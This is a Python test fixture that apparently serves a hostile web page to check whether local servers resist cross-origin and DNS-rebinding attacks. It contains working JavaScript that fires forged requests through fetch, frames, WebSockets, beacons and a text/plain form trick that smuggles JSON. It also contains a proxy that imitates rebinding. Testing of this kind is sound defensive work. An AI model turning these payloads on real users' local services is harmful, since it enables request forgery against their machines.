"""Serves a web page that tries to use the servers of the machine on which it is opened.

A browser runs the page's script under different names and ports. Under a name that resolves to 127.0.0.1, the
page's own server forwards the requests to the attacked server, which sees what it would see after DNS
rebinding: the page's Host and Origin.
"""

import http.client
import json
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from threading import Lock
from typing import Any

from werkzeug import Request, Response

from tests.servers.waiting import MAX_WAIT_SECONDS


@dataclass(frozen=True)
class Attempt:
    """A request that the page tries to send.

    Attributes:
        method: the HTTP method.
        url: the URL; only its path in a page that attacks its own origin.
        body: the body; None for none.
        content_type: the Content-Type of the body.
    """

    method: str
    url: str
    body: str | None = None
    content_type: str = "text/plain"


@dataclass
class HostilePage:
    """The page, and what it has reported.

    Attributes:
        report_url: the URL to which the page posts its report.
        attempts: the requests that the page tries to send to another origin.
        reports: for each origin of the page, the results of `fetch`: URL, method, mode, and what happened.
        requested: the paths of the other requests to the page's own server, apart from its icon.
    """

    report_url: str = ""
    attempts: list[Attempt] = field(default_factory=list)
    reports: dict[str, list[Any]] = field(default_factory=dict)
    requested: list[str] = field(default_factory=list)
    _lock: Lock = field(default_factory=Lock)

    def respond(self, request: Request) -> Response:
        """Serve the page at /attack, frames of it at /frames, and take its report at /report."""
        if request.path == "/attack":
            return _page(self.report_url, self.attempts, is_own_origin=False)
        if request.path == "/frames":
            frames = "".join(f"<iframe src='{url}'></iframe>" for url in request.args.getlist("url"))
            return Response(f"<!doctype html>{frames}", content_type="text/html")
        with self._lock:
            if request.path == "/report":
                report = json.loads(request.get_data())
                self.reports[report["origin"]] = report["results"]
            elif request.path != "/favicon.ico":
                self.requested.append(request.path)
        return Response("<title>Page</title>", content_type="text/html")

    def rebound_to(self, port: int, attempts: list[Attempt]) -> Callable[[Request], Response]:
        """Return a function that serves a page at /attack, and forwards all else to 127.0.0.1:`port`."""

        def respond(request: Request) -> Response:
            if request.path == "/attack":
                return _page(self.report_url, attempts, is_own_origin=True)
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=MAX_WAIT_SECONDS)
            connection.request(
                request.method, request.full_path.rstrip("?"), request.get_data(), dict(request.headers)
            )
            with connection.getresponse() as received:
                response = Response(received.read(), received.status, content_type="text/plain")
            connection.close()
            return response

        return respond


def _page(report_url: str, attempts: list[Attempt], *, is_own_origin: bool) -> Response:
    arguments = [report_url, [asdict(attempt) for attempt in attempts], is_own_origin]
    script = f"{_SCRIPT}\nattack(...{json.dumps(arguments)})"
    return Response(f"<!doctype html><body><script>{script}</script>", content_type="text/html")


_SCRIPT = """
const settled = (element, url, property = "src") => new Promise((resolve) => {
  element.onload = element.onerror = element.onopen = element.onclose = resolve
  setTimeout(resolve, 5000)
  if (url) { element[property] = url; document.body.append(element) }
})

async function send(mode, {method, url, body, content_type}) {
  try {
    const headers = body === null ? {} : {"Content-Type": content_type}
    const signal = AbortSignal.timeout(200000)
    const response = await fetch(url, {method, mode, body, headers, signal})
    return [url, method, mode, response.type, response.status, (await response.text()).slice(0, 300)]
  } catch (error) {
    return [url, method, mode, String(error)]
  }
}

async function submit({url, body}) {
  const frame = document.createElement("iframe"), form = document.createElement("form")
  frame.name = url
  const input = document.createElement("input")
  input.name = body.slice(0, -1) + ',"unknown":"'
  input.value = '"}'
  Object.assign(form, {method: "POST", action: url, enctype: "text/plain", target: url})
  form.append(input)
  document.body.append(frame, form)
  const loaded = settled(frame)
  form.submit()
  await loaded
}

async function embed({method, url, body}) {
  if (method === "GET") {
    await settled(new Image(), url)
    await settled(document.createElement("script"), url)
    await settled(document.createElement("iframe"), url)
    await settled(new EventSource(url))
    await settled(new WebSocket(url.replace("http", "ws")))
  } else if (method === "POST") {
    await submit({url, body})
    navigator.sendBeacon(url, body)
  }
}

async function attack(report, attempts, isOwnOrigin) {
  const results = []
  for (const attempt of attempts)
    for (const mode of isOwnOrigin ? ["same-origin"] : ["no-cors", "cors"])
      results.push(await send(mode, attempt))
  if (!isOwnOrigin)
    await Promise.all(attempts.map(embed))
  const body = JSON.stringify({origin: location.origin, results})
  await fetch(report, {method: "POST", mode: "no-cors", body})
}
"""
